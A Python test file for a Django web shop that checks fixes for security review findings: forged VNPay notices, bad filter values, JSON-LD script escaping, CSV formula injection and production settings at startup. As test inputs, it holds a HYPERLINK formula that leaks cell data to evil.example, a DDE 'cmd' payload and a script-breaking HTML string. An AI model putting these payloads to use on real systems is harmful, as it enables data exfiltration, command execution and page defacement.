"""The small findings of the security review (issue 17, findings 6, 7, 8, 13 and 15), each as the attack
that worked: a VNPay notice signed with the empty key of a switched-off VNPay, filter values that made
the listings answer 500, a search cut without a word, a product title that blanked its page, a contact
message that became a spreadsheet formula, and a WSGI entry point that started with development settings."""

import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from django.contrib.auth import get_user_model
from django.contrib.messages import get_messages
from django.test import Client, override_settings
from django.urls import reverse
from oscar.core.loading import get_model

from catalogue.ocop.display import public_title
from cms.models import ContactPage
from payments.models import Payment, ProviderEvent
from payments.providers.vnpay import signing as vnpay
from shop.search.forms import SearchForm
from tests.payments.test_vnpay_gateway import _ipn, _signed, _vnpay_order
from tests.shop.checkout.journey import buyable_products

from .conftest import ADMIN

Category = get_model("catalogue", "Category")
ROOT = Path(__file__).resolve().parents[3]

# The database backend of search; Elasticsearch is the tests' default.
BOTH_BACKENDS = pytest.mark.parametrize(
    "search_settings", [{}, {"ELASTICSEARCH_URL": ""}], ids=["elasticsearch", "database"]
)


# --- 6. VNPay switched off ------------------------------------------------------------------------


@pytest.mark.django_db
def test_a_vnpay_notice_signed_with_the_empty_key_of_a_switched_off_vnpay_is_refused(client, settings):
    _order, payment, _response = _vnpay_order(client)
    settings.VNPAY_TMN_CODE = ""
    settings.VNPAY_HASH_SECRET = ""
    forged = _signed(payment)  # signed with settings.VNPAY_HASH_SECRET, now the empty key
    assert not vnpay.signature_is_valid(forged, "")  # no signature is valid without a secret
    assert _ipn(forged) == "97"
    payment.refresh_from_db()
    assert payment.status == Payment.Status.PENDING and payment.amount_received == 0
    assert not ProviderEvent.objects.filter(provider="vnpay").exists()
    # The return page does not vouch for the forged result either.
    assert Client().get(reverse("payments:vnpay-return"), forged).status_code == 400


# --- 7. Filters and long searches -------------------------------------------------------------------


def _listing_urls():
    category = Category.objects.filter(is_public=True).first()
    return [reverse("search:search"), reverse("catalogue:index"), category.get_absolute_url()]


@BOTH_BACKENDS
@pytest.mark.django_db
@pytest.mark.parametrize(
    "params",
    [
        {"producer": "²"},
        {"province": "²"},
        {"producer": "1" * 23},
        {"province": "9" * 23},
        {"producer": "٣"},
        {"producer": "１０"},
        {"producer": "-1"},
        {"province": "2147483648"},
        {"stars": "²"},
        {"group": "²"},
        {"q": "chè", "producer": ["²", "1" * 23]},
    ],
    ids=lambda params: "&".join(f"{k}={v}" for k, v in params.items()),
)
def test_invalid_filter_values_are_ignored_not_a_500(client, search_settings, params):
    with override_settings(**search_settings):
        for url in _listing_urls():
            response = client.get(url, params)
            assert response.status_code == 200, (url, response.status_code)
            assert response.context["selections"] == {}, url


@BOTH_BACKENDS
@pytest.mark.django_db
def test_a_valid_filter_value_still_applies_beside_an_invalid_one(client, search_settings):
    (product,) = buyable_products(1)
    producer = product.stockrecords.first().partner
    with override_settings(**search_settings):
        response = client.get(reverse("catalogue:index"), {"producer": [str(producer.pk), "²", "1" * 23]})
    assert response.status_code == 200
    assert response.context["selections"] == {"producer": [str(producer.pk)]}
    listed = list(response.context["products"])
    assert listed and all(p.stockrecords.first().partner_id == producer.pk for p in listed)


@BOTH_BACKENDS
@pytest.mark.django_db
def test_a_6000_character_search_is_cut_to_the_box_length_with_a_message(client, search_settings):
    limit = SearchForm.base_fields["q"].max_length
    query = ("mật ong " * 1000)[:6000]
    with override_settings(**search_settings):
        response = client.get(reverse("search:search"), {"q": query})
    assert response.status_code == 200
    assert response.context["query"] == query[:limit].strip()
    assert any(p.upc == "LC-013" for p in response.context["products"])  # "Mật ong…" is still found
    html = response.content.decode()
    (message,) = [str(m) for m in get_messages(response.wsgi_request)]
    assert f"{limit} ký tự" in message and message in html  # the visitor is told the search was cut
    assert query not in html  # the header box shows what was searched, not the 6,000 characters


@pytest.mark.django_db
def test_an_unknown_sort_order_does_not_drop_the_query(client):
    response = client.get(reverse("search:search"), {"q": "mật ong", "sort_by": "²"})
    assert response.status_code == 200 and response.context["query"] == "mật ong"


# --- 8. JSON-LD escaping ----------------------------------------------------------------------------

LD_JSON = re.compile(r'<script type="application/ld\+json">(.*?)</script>', re.S)


def _json_ld_blocks(html):
    """The JSON-LD blocks as a browser reads them. Inside a script, ``<!--`` followed by ``<script``
    makes the next ``</script>`` not end it (HTML's "double escaped" script state): the rest of the
    page becomes script text. A block holding either sequence would swallow the page."""
    blocks = LD_JSON.findall(html)
    for block in blocks:
        assert "<!--" not in block and "<script" not in block.lower() and "</" not in block, block
    return blocks


@pytest.mark.django_db
@pytest.mark.parametrize("field", ["title", "producer"])
def test_a_title_or_producer_name_with_a_script_opening_does_not_blank_the_product_page(client, field):
    (product,) = buyable_products(1)
    hostile = "X <!--<script> Y & </script><b>"
    producer = product.stockrecords.first().partner
    if field == "title":
        product.title = hostile
        product.save()
    else:
        producer.name = hostile
        producer.save()
    response = client.get(product.get_absolute_url())
    assert response.status_code == 200
    html = response.content.decode()
    (block,) = _json_ld_blocks(html)
    data = json.loads(block)
    if field == "title":
        assert data["name"] == public_title(product) and "<!--<script>" in data["name"]
    else:
        assert data["brand"]["name"] == hostile
    # The rest of the page came after the data block: the basket form and the footer.
    after = html[html.index(block) + len(block) :]
    assert reverse("basket:add", kwargs={"pk": product.pk}) in html and "</footer>" in after


# --- 13. Spreadsheet formulas in exports -----------------------------------------------------------


@pytest.mark.parametrize(
    "cell, expected",
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+1+2", "'+1+2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Chè Shan tuyết", "Chè Shan tuyết"),
        ("", ""),
        (12, 12),
        (None, None),
    ],
)
def test_spreadsheet_safe_neutralises_formula_openings(cell, expected):
    from shop.core.spreadsheets import spreadsheet_safe

    assert spreadsheet_safe(cell) == expected


def test_the_figures_and_sales_exports_use_the_one_helper():
    from payments import sales
    from shop.core.spreadsheets import spreadsheet_safe
    from shop.dashboard.review import figures

    assert figures.csv_safe is spreadsheet_safe and sales.csv_safe is spreadsheet_safe


@pytest.mark.django_db
def test_a_contact_message_with_a_formula_exports_as_text():
    page = ContactPage.objects.live().filter(locale__language_code="vi").first()
    fields = [name for name, _label in page.get_data_fields() if name != "submit_time"]
    hostile = {
        fields[0]: '=HYPERLINK("http://evil.example/?d="&A1,"Bấm")',
        fields[1]: "a@example.vn",
        fields[2]: "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    page.get_submission_class().objects.create(page=page, form_data=hostile)
    client = Client()
    client.force_login(
        get_user_model().objects.get(email=ADMIN[0]), backend="django.contrib.auth.backends.ModelBackend"
    )
    response = client.get(reverse("wagtailforms:list_submissions", args=[page.pk]), {"export": "csv"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert '\'=HYPERLINK("http://evil.example/?d="&A1,"Bấm")' in cells
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


# --- 15. The WSGI/ASGI entry points ----------------------------------------------------------------


def _import_in_a_fresh_process(module, **env):
    clean = {
        k: v
        for k, v in os.environ.items()
        if k not in ("DJANGO_SETTINGS_MODULE", "SECRET_KEY", "ALLOWED_HOSTS", "DEBUG")
    }
    code = f"import {module}; from django.conf import settings; print(settings.SETTINGS_MODULE, settings.DEBUG)"
    return subprocess.run(
        [sys.executable, "-c", code], cwd=ROOT, env={**clean, **env}, capture_output=True, text=True, timeout=120
    )


@pytest.mark.parametrize("module", ["shop.wsgi", "shop.asgi"])
def test_the_server_entry_points_default_to_production_and_refuse_without_its_settings(module):
    refused = _import_in_a_fresh_process(module)
    assert refused.returncode != 0
    assert "ImproperlyConfigured" in refused.stderr and "SECRET_KEY" in refused.stderr
    started = _import_in_a_fresh_process(
        module, SECRET_KEY="k7#Qz!p2@Lm9$Wv4^Rt8&Yx1*Nb6(Hd3)Gf5-Js0+Ua=Ce" * 2, ALLOWED_HOSTS="cho-ocop.example.vn"
    )
    assert started.returncode == 0, started.stderr[-2000:]
    assert started.stdout.split() == ["shop.settings.production", "False"]
